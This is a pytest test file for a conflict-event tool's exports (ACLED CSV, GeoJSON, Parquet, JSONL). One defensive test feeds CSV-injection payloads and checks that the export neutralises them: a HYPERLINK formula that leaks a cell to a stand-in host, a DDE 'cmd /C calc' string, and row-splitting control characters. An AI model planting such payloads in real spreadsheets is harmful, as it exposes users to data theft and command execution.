"""Exports read back: ACLED columns and values, valid GeoJSON, Parquet equal to the database."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import sitrep
from sitrep.export import ACLED_COLUMNS, SITREP_COLUMNS
from sitrep.records import to_dict


def test_acled_csv_has_acled_columns_in_order_with_valid_values(db: str, samples: Path) -> None:
    sitrep.ingest([samples], db=db)
    text = sitrep.export("acled-csv", db=db)
    assert isinstance(text, str)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(csv.reader(io.StringIO(text)).__next__()) == ACLED_COLUMNS
    assert len(rows) == len(sitrep.events(db))
    for row in rows:
        assert row["event_id_cnty"][:3].isalpha() and row["event_id_cnty"][3:].isdigit()
        assert row["year"] == row["event_date"][:4] and row["time_precision"] in {"1", "2", "3"}
        assert row["disorder_type"] == "Political violence"
        assert row["event_type"] in {"Explosions/Remote violence", "Battles"}
        assert -90 <= float(row["latitude"]) <= 90 and -180 <= float(row["longitude"]) <= 180
        assert int(row["inter1"]) in {1, 2, 3, 7, 8} and int(row["fatalities"]) >= 0
        assert row["notes"].startswith("On ")
        assert not any(name.endswith((".txt", ".html", ".jsonl")) for name in row["source"].split("; "))
    assert any(row["source"] for row in rows)
    tower = next(r for r in rows if r["location"] == "Tower 22")
    assert (tower["country"], tower["iso"], tower["fatalities"]) == ("Jordan", "400", "3")
    # ACLED's short country names, not ISO's long ones; a target that is no party is no actor2.
    assert "Syria" in {r["country"] for r in rows} and "Syrian Arab Republic" not in {r["country"] for r in rows}
    assert all(r["region"] == "Middle East" for r in rows)
    for row, event in zip(rows, sitrep.events(db), strict=True):
        if event.target in ("airport", "commercial vessel"):
            assert (row["actor2"], row["inter2"], row["interaction"]) == ("", "0", str(int(row["inter1"]) * 10))


@pytest.mark.parametrize(
    ("text", "actor1", "inter1"),
    [
        # a state's forces at home are ACLED's state forces (1), abroad external forces (8)
        ("Sudan's army bombed a market in the city of Nyala, Sudan, on Tuesday, medics said.", "Sudan", "1"),
        ("Russian troops shelled the town of Kupiansk on Tuesday, Ukrainian officials said.", "Russia", "8"),
    ],
)
def test_a_state_actors_yaml_does_not_list_has_acled_s_inter_code_of_state_forces(
    text: str, actor1: str, inter1: str, db: str, tmp_path: Path
) -> None:
    report = tmp_path / "report.txt"
    report.write_text(f" date 2024-05-28\n{text}\n", encoding="utf-8")
    sitrep.ingest([report], db=db)
    (row,) = csv.DictReader(io.StringIO(str(sitrep.export("acled-csv", db=db))))
    assert (row["actor1"], row["inter1"]) == (actor1, inter1)


def test_a_state_force_has_acled_s_name_only_within_its_government_s_term(db: str, tmp_path: Path) -> None:
    # The Israeli strike on Latakia port of 28 December 2021, a year before the term that
    # ACLED's "Military Forces of Israel (2022-)" names began.
    report = tmp_path / "latakia.txt"
    report.write_text(
        " date 2021-12-28\nIsraeli warplanes struck the container terminal of Latakia port in Syria on Tuesday, "
        "Syrian state media said.\n",
        encoding="utf-8",
    )
    sitrep.ingest([report], db=db)
    (row,) = csv.DictReader(io.StringIO(str(sitrep.export("acled-csv", db=db))))
    assert (row["event_date"], row["actor1"]) == ("2021-12-28", "Israel")


def test_source_scale_is_the_outlets_reach_from_the_event_s_country(db: str, tmp_path: Path) -> None:
    # The drone attack on Erbil airport of 26 December 2023, told by an Iraqi outlet and by a
    # Saudi paper carrying Reuters' story; the strike on Damascus' Mezzeh of 20 January 2024,
    # told by an outlet of Iraqi Kurdistan and by one no data file lists.
    told = [
        ("Shafaq News", "2023-12-26", "A drone struck Erbil International Airport on Tuesday, officials said."),
        ("Arab News (Reuters)", "2023-12-26", "An attack drone hit Erbil International Airport on Tuesday."),
        ("Rudaw", "2024-01-20", "An Israeli air strike hit a building in the Mezzeh district of Damascus on Saturday."),
        ("Levant Daily Digest", "2024-01-20", "Israeli jets struck the Mezzeh district of Damascus on Saturday."),
    ]
    feed = tmp_path / "told.jsonl"
    feed.write_text(
        "".join(json.dumps({"source": o, "published": d, "text": t}) + "\n" for o, d, t in told), encoding="utf-8"
    )
    sitrep.ingest([feed], db=db)
    rows = {r["location"]: r for r in csv.DictReader(io.StringIO(str(sitrep.export("acled-csv", db=db))))}
    assert rows["Erbil International Airport"]["source_scale"] == "National-International"
    assert rows["Mezzeh"]["source_scale"] == "Other-Regional"


def test_admin2_is_the_town_s_second_level_area_where_geonames_names_one(db: str, tmp_path: Path) -> None:
    # The US and British strikes of 12 January 2024 on Houthi sites, Dhamar among them;
    # GeoNames names Dhamar's district, and none for Iraq's Erbil.
    told = tmp_path / "told.jsonl"
    told.write_text(
        json.dumps({"published": "2024-01-12", "text": "US and British strikes hit a Houthi camp in Dhamar on Friday, "
                    "Houthi media said."}) + "\n"
        + json.dumps({"published": "2023-12-26", "text": "A drone struck Erbil International Airport on Tuesday."}) + "\n",
        encoding="utf-8",
    )  # fmt: skip
    sitrep.ingest([told], db=db)
    rows = {r["location"]: r for r in csv.DictReader(io.StringIO(str(sitrep.export("acled-csv", db=db))))}
    dhamar = next(r for name, r in rows.items() if name.startswith("Dham"))
    assert (dhamar["country"], dhamar["admin2"]) == ("Yemen", "Madinat Dhamar")
    assert rows["Erbil International Airport"]["admin2"] == ""


def test_the_acled_csv_reads_back_in_pandas_with_acled_s_dtypes_and_values(db: str, samples: Path) -> None:
    sitrep.ingest([samples], db=db)
    frame = pd.read_csv(io.StringIO(str(sitrep.export("acled-csv", db=db))), parse_dates=["event_date"])
    assert tuple(frame.columns) == ACLED_COLUMNS and len(frame) == len(sitrep.events(db))
    counts = [
        "year",
        "time_precision",
        "inter1",
        "inter2",
        "interaction",
        "iso",
        "geo_precision",
        "fatalities",
        "timestamp",
    ]
    assert {str(frame[c].dtype) for c in counts} == {"int64"}
    assert {str(frame[c].dtype) for c in ("latitude", "longitude")} == {"float64"}
    assert str(frame["event_date"].dtype).startswith("datetime64")
    assert frame["event_id_cnty"].str.fullmatch(r"[A-Z]{3}\d+").all() and frame["event_id_cnty"].is_unique
    assert frame["sub_event_type"].notna().all() and frame["event_type"].notna().all()
    assert set(frame["country"]) <= {"Iraq", "Syria", "Jordan", "Lebanon", "Israel", "Yemen", "Palestine"}
    assert frame["inter1"].between(1, 8).all() and frame["inter2"].between(0, 8).all()
    one_sided = frame["inter2"] == 0
    assert (frame.loc[one_sided, "interaction"] == frame.loc[one_sided, "inter1"] * 10).all()


def test_geojson_is_a_valid_feature_collection(db: str, samples: Path) -> None:
    sitrep.ingest([samples], db=db)
    data = json.loads(str(sitrep.export("geojson", db=db, country="IQ")))
    assert data["type"] == "FeatureCollection"
    assert len(data["features"]) == len(sitrep.events(db, country="IQ")) > 0
    for feature in data["features"]:
        assert feature["type"] == "Feature" and feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert 38 <= lon <= 49 and 29 <= lat <= 38  # inside Iraq's bounding box
        assert feature["properties"]["country"] == "IQ" and "lat" not in feature["properties"]


def test_every_geojson_point_carries_its_sources_evidence(db: str, samples: Path) -> None:
    sitrep.ingest([samples], db=db)
    features = json.loads(str(sitrep.export("geojson", db=db)))["features"]
    assert features
    for feature in features:
        properties = feature["properties"]
        detail = sitrep.event(properties["id"], db=db)
        assert [e["mention"] for e in properties["evidence"]] == [f"{m.report_id}:{m.id}" for m, _ in detail.mentions]
        for evidence, (_, report) in zip(properties["evidence"], detail.mentions, strict=True):
            assert evidence["url"] == report.url and evidence["outlet"]
            assert evidence["text"] and all(words in report.text for words in evidence["text"])


def test_parquet_reads_back_equal_to_the_database_in_typed_columns(db: str, samples: Path, tmp_path: Path) -> None:
    sitrep.ingest([samples], db=db)
    written = sitrep.export("parquet", tmp_path / "pq", db=db)
    names = ["events.parquet", "mentions.parquet", "figures.parquet", "reports.parquet"]
    assert [p.name for p in written] == names  # type: ignore[union-attr]
    table = pq.read_table(tmp_path / "pq" / "events.parquet")
    schema = table.schema
    assert schema.field("date_earliest").type == pa.date32() and schema.field("weapons").type == pa.list_(pa.string())
    assert schema.field("lat").type == pa.float64() and schema.field("sources").type == pa.int64()
    days = ("date", "date_earliest", "date_latest", "first_seen", "last_seen")
    read_back = [{k: v.isoformat() if k in days and v else v for k, v in row.items()} for row in table.to_pylist()]
    assert read_back == [to_dict(e) for e in sitrep.events(db)]
    mentions = pq.read_table(tmp_path / "pq" / "mentions.parquet")
    assert mentions.num_rows == sum(len(e.mention_keys) for e in sitrep.events(db))
    assert mentions.schema.field("evidence_spans").type == pa.list_(pa.list_(pa.int64()))


def test_parquet_keeps_every_figure_and_the_reports_they_come_from(db: str, tmp_path: Path) -> None:
    # A tally in a report that tells no attack is still a figure analysts count.
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "attack.txt").write_text(
        "Two drones struck the Harir air base in Erbil province on Wednesday, officials said.", encoding="utf-8"
    )
    (tmp_path / "in" / "tally.txt").write_text(
        "US forces in Iraq and Syria have been attacked at least 66 times since October 17, the Pentagon said.",
        encoding="utf-8",
    )
    summary = sitrep.ingest([tmp_path / "in"], db=db, published=date(2023, 11, 16))
    assert summary.figures >= 1 and len(sitrep.events(db)) == 1
    sitrep.export("parquet", tmp_path / "pq", db=db)
    figures = pq.read_table(tmp_path / "pq" / "figures.parquet").to_pylist()
    reports = pq.read_table(tmp_path / "pq" / "reports.parquet").to_pylist()
    assert len(figures) == summary.figures and any(f["value"] == 66 for f in figures)
    assert {f["report_id"] for f in figures} <= {r["id"] for r in reports}
    assert len(reports) == 2 and all(r["text"] for r in reports)


def test_jsonl_gives_each_event_with_its_mentions(db: str, samples: Path) -> None:
    sitrep.ingest([samples], db=db)
    lines = [json.loads(line) for line in str(sitrep.export("jsonl", db=db)).splitlines()]
    assert len(lines) == len(sitrep.events(db))
    for line in lines:
        assert sorted(f"{m['report_id']}:{m['id']}" for m in line["mentions"]) == line["mention_keys"]


def test_an_unknown_format_is_a_usage_error(db: str) -> None:
    try:
        sitrep.export("xlsx", db=db)
    except sitrep.UsageError as exc:
        assert "unknown export format 'xlsx'" in str(exc)
    else:
        raise AssertionError("no error")


def test_report_text_cannot_become_a_formula_or_split_a_row(db: str, tmp_path: Path) -> None:
    hostile = ['=HYPERLINK("http://x/?leak="&A1)', "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab", "\rCR"]
    lines = [
        {
            "title": f"Drone attack {n}",
            "source": f"{outlet} News\rWire",
            "published": f"2024-01-{10 + n}",
            "text": f"Two drones struck the Harir air base in Erbil province on {day}, a security source said.",
        }
        for n, (outlet, day) in enumerate(zip(hostile, ["Monday", "Tuesday", "Wednesday"] * 2, strict=True))
    ]
    feed = tmp_path / "hostile.jsonl"
    feed.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    sitrep.ingest([feed], db=db)
    text = sitrep.export("acled-csv", db=db)
    assert isinstance(text, str)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > 1 and {len(row) for row in rows} == {len(ACLED_COLUMNS)}
    cells = [cell for row in rows for cell in row]
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells if cell[:1] and not _number(cell)
    )
    sources = {row[ACLED_COLUMNS.index("source")] for row in rows[1:]}
    assert any(source.startswith("'=HYPERLINK") for source in sources)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_acled_source_names_outlets_never_a_file_name(db: str, tmp_path: Path) -> None:
    bare = tmp_path / "notes-0412.txt"
    bare.write_text("Two drones struck the Harir air base in Erbil province on Wednesday.", encoding="utf-8")
    feed = tmp_path / "wire.jsonl"
    line = {
        "text": "A rocket hit the Ain al-Asad air base in Anbar province on Thursday.",
        "url": "https://news.example.org/2023/10/19/rocket",
        "published": "2023-10-19",
    }
    feed.write_text(json.dumps(line) + "\n", encoding="utf-8")
    sitrep.ingest([bare, feed], db=db, published=date(2023, 10, 19))
    rows = list(csv.DictReader(io.StringIO(str(sitrep.export("acled-csv", db=db)))))
    assert sorted(row["source"] for row in rows) == ["", "news.example.org"]


def test_acled_rows_use_acled_s_actor_names_and_notes_quote_the_report(db: str, samples: Path) -> None:
    sitrep.ingest([samples], db=db)
    rows = list(csv.DictReader(io.StringIO(str(sitrep.export("acled-csv", db=db)))))
    actors = {row["actor1"] for row in rows}
    # data/actors.yaml `acled_name`, for the days of a state force's term
    assert {"Military Forces of Israel (2022-)", "Kataib Hizbullah"} <= actors and "Israel" not in actors
    assert {"Hamas Movement", "Military Forces of the United States (2021-)"} <= {row["actor2"] for row in rows}
    for row, event in zip(rows, sitrep.events(db), strict=True):
        detail = sitrep.event(event.id, db=db)
        assert f"Report: “{detail.mentions[0][0].evidence}”" in row["notes"]
        for _, report in detail.mentions:
            if report.url and report.url.startswith("https://"):
                assert report.url in row["notes"]
    assert any("Sources: https://" in row["notes"] for row in rows)


def test_acled_plus_sitrep_columns_add_the_event_id_window_evidence_and_urls(db: str, samples: Path) -> None:
    sitrep.ingest([samples], db=db)
    text = str(sitrep.export("acled-csv", db=db, columns="acled+sitrep"))
    assert tuple(next(csv.reader(io.StringIO(text)))) == ACLED_COLUMNS + SITREP_COLUMNS
    rows = list(csv.DictReader(io.StringIO(text)))
    for row, event in zip(rows, sitrep.events(db), strict=True):
        assert row["sitrep_event_id"] == event.id
        assert (row["sitrep_date_earliest"], row["sitrep_date_latest"]) == (event.date_earliest, event.date_latest)
        assert row["sitrep_date_precision"] == event.date_precision
        assert row["sitrep_evidence"]
    assert any(row["sitrep_urls"].startswith("https://") for row in rows)
    # plain ACLED is ACLED's columns alone
    assert tuple(next(csv.reader(io.StringIO(str(sitrep.export("acled-csv", db=db)))))) == ACLED_COLUMNS


def test_unknown_columns_are_a_usage_error(db: str, samples: Path) -> None:
    from typer.testing import CliRunner

    from sitrep.cli import app

    sitrep.ingest([samples], db=db)
    result = CliRunner().invoke(
        app, ["export", "--format", "acled-csv", "--columns", "all", "--db", db], env={"COLUMNS": "200"}
    )
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "'all' is not one of 'acled', 'acled+sitrep'" in result.output
    with pytest.raises(sitrep.UsageError, match="unknown columns 'all'; choose one of acled, acled"):
        sitrep.export("acled-csv", db=db, columns="all")
